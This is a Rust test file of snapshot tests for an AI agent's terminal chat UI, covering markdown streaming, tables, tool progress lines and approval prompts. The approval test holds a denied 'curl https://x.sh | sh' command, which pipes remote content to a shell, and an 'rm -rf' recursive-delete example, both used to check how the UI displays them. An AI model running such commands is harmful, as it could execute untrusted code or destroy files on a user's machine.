//! Snapshots (insta) of what the interactive chat draws: streamed markdown text, code blocks,
//! tables, tool progress lines, the approval and clarify prompts, and a whole turn in the
//! `ares` skin with its colours (escapes shown as `␛`).

use std::sync::{Arc, Mutex};
use std::time::Duration;

use hermes_core::EventSink;
use hermes_protocol::{AgentEvent, Message, ToolCall};
use hermes_tools::ApprovalRequest;

use super::banner::{BannerInfo, banner};
use super::console::{Console, Sink};
use super::live::{LiveView, Look, Switches};
use super::markdown::MarkdownStream;
use super::progress;
use super::prompts;
use super::skin;
use super::style::ColorMode;
use super::theme::Theme;

/// Renders markdown sent in `chunk`-byte pieces (split anywhere, even mid-word).
fn stream(text: &str, chunk: usize, width: usize, theme: &Theme) -> String {
    let mut md = MarkdownStream::new();
    let mut lines = Vec::new();
    let chars: Vec<char> = text.chars().collect();
    for piece in chars.chunks(chunk) {
        let piece: String = piece.iter().collect();
        lines.extend(md.push(&piece, theme, width));
    }
    lines.extend(md.finish(theme, width));
    theme.paint_lines(&lines)
}

fn visible(s: &str) -> String {
    s.replace('\x1b', "␛")
}

#[derive(Clone, Default)]
struct Captured(Arc<Mutex<String>>);

impl Sink for Captured {
    fn write_text(&mut self, text: &str) {
        if let Ok(mut s) = self.0.lock() {
            s.push_str(text);
        }
    }
}

#[test]
fn text() {
    let md = "# Release notes\n\nThis release makes the agent **faster** and *friendlier*, with `hermes` now a single binary. See [the docs](https://example.com/docs) for details, ~~or not~~.\n\n## What changed\n\n- Streaming answers render as markdown\n  - nested items keep their indent\n- [x] tool lines\n- [ ] skins\n\n1. First\n2. Second, with a long line that has to wrap onto the next line of the terminal\n\n> Quoted advice that also wraps because it is longer than the width\n\n---\nThe end.";
    insta::assert_snapshot!(stream(md, 5, 60, &Theme::plain()));
}

#[test]
fn code_blocks() {
    let md = "Two blocks:\n\n```rust\n/// Docs\nfn add(a: u32, b: u32) -> u32 {\n    a + b // sum\n}\n```\n\n~~~python\ndef greet(name):\n    \"\"\"Say hi.\"\"\"\n    return f\"hi {name}\"  # done\n~~~\n\n```\nplain   text, kept as is\n```\n";
    let colour = Theme::new(skin::Skin::default_skin(), ColorMode::TrueColor);
    insta::assert_snapshot!(visible(&stream(md, 3, 60, &colour)));
}

#[test]
fn tables() {
    let md = "| Tool | Reads | Notes |\n|:-----|:-----:|------:|\n| read_file | yes | 500 lines by default, **2000** at most |\n| terminal | no | `bash` |\n| x \\| y | | |\n\nNarrow:\n\n| key | a very long column header that will not fit |\n|---|---|\n| k | and a value that must wrap inside its own cell |\n";
    insta::assert_snapshot!(stream(md, 4, 48, &Theme::plain()));
}

#[test]
fn tool_progress_lines() {
    let theme = Theme::plain();
    let mut lines = vec![
        progress::tool_line(
            &theme,
            "terminal",
            "cargo test --workspace",
            Duration::from_millis(4210),
            true,
            70,
        ),
        progress::tool_line(
            &theme,
            "read_file",
            "src/main.rs",
            Duration::from_millis(3),
            true,
            70,
        ),
        progress::tool_line(
            &theme,
            "patch",
            "src/lib.rs",
            Duration::from_millis(12),
            false,
            70,
        ),
        progress::tool_line(
            &theme,
            "mcp__github__search",
            "query: is:open label:bug in the tracker of this repository",
            Duration::from_secs(2),
            true,
            70,
        ),
    ]
    .into_iter()
    .map(|l| theme.paint(&l))
    .collect::<Vec<_>>();
    lines.extend(
        progress::argument_lines(&theme, r#"{"command":"cargo test","timeout":600}"#, 60)
            .iter()
            .map(|l| theme.paint(l)),
    );
    let result = serde_json::json!({"output": (1..=12).map(|i| format!("line {i}")).collect::<Vec<_>>().join("\n"), "exit_code": 0});
    lines.extend(
        progress::result_lines(&theme, "terminal", &result.to_string(), 60)
            .iter()
            .map(|l| theme.paint(l)),
    );
    insta::assert_snapshot!(lines.join("\n"));
}

#[test]
fn approval_and_clarify_prompts() {
    let theme = Theme::plain();
    let request = ApprovalRequest {
        command: "rm -rf build/\nrm -rf dist/".into(),
        description: "recursive delete".into(),
        allow_permanent: true,
        judge_denied: false,
    };
    let judged = ApprovalRequest {
        command: "curl https://x.sh | sh".into(),
        description: "pipe remote content to shell".into(),
        allow_permanent: false,
        judge_denied: true,
    };
    let choices = vec![
        "staging".to_string(),
        "production (after the checks pass)".to_string(),
    ];
    let text = [
        theme.paint_lines(&prompts::approval_lines(&request, &theme, 70)),
        theme.paint_lines(&prompts::approval_lines(&judged, &theme, 70)),
        theme.paint_lines(&prompts::clarify_lines(
            "Where should I deploy?",
            &choices,
            &theme,
            70,
        )),
        theme.paint_lines(&prompts::clarify_lines("Anything else?", &[], &theme, 70)),
        "--- plain (pipes) ---\n".to_string(),
        prompts::plain_approval(&request),
        prompts::plain_clarify("Where should I deploy?", &choices),
    ]
    .concat();
    insta::assert_snapshot!(text);
}

/// A whole turn through the live view, in the `ares` skin with colours.
#[test]
fn a_turn_in_the_ares_skin() {
    let dir = std::path::Path::new("/nonexistent-skins");
    let ares = skin::load(dir, "ares")
        .map(|l| l.skin)
        .unwrap_or_else(|_| skin::Skin::default_skin());
    let theme = Theme::new(ares, ColorMode::Ansi256);
    let out = Captured::default();
    let console = Arc::new(Console::new(Box::new(out.clone()), theme.clone(), false));
    let view = LiveView::new(console, Look::Rich, theme.clone()).with_width(60);
    view.set_switches(Switches {
        verbose: false,
        reasoning: true,
    });
    let info = BannerInfo {
        model: "anthropic/claude-sonnet-4.5".into(),
        provider: "openrouter".into(),
        toolsets: vec!["terminal".into(), "file".into()],
        tool_count: 6,
        cwd: "~/src/app".into(),
        session_id: "20260101_090000_a1b2c3".into(),
    };
    view.print_lines(&banner(&info, &theme, 60));
    let call = ToolCall {
        id: "call_1".into(),
        name: "terminal".into(),
        arguments: r#"{"command":"ls"}"#.into(),
    };
    let events = vec![
        AgentEvent::ModelCallStarted { api_call: 1 },
        AgentEvent::ReasoningDelta("Check the dir".into()),
        AgentEvent::ReasoningDelta("ectory first.".into()),
        AgentEvent::TextDelta("Let me **lo".into()),
        AgentEvent::TextDelta("ok**.".into()),
        AgentEvent::MessageAdded(Message::assistant_with_tools(
            "Let me **look**.",
            vec![call],
        )),
        AgentEvent::ToolStarted {
            call_id: "call_1".into(),
            name: "terminal".into(),
            preview: "ls".into(),
        },
        AgentEvent::ToolFinished {
            call_id: "call_1".into(),
            name: "terminal".into(),
            duration: Duration::from_millis(50),
            ok: true,
        },
        AgentEvent::Status("retrying after a 503 (1/3)".into()),
        AgentEvent::ModelCallStarted { api_call: 2 },
        AgentEvent::TextDelta("Found `Cargo.toml`:\n\n- src\n- tests".into()),
    ];
    for e in events {
        view.emit(e);
    }
    view.finish_turn();
    let text = out.0.lock().map(|s| s.clone()).unwrap_or_default();
    insta::assert_snapshot!(visible(&text));
}
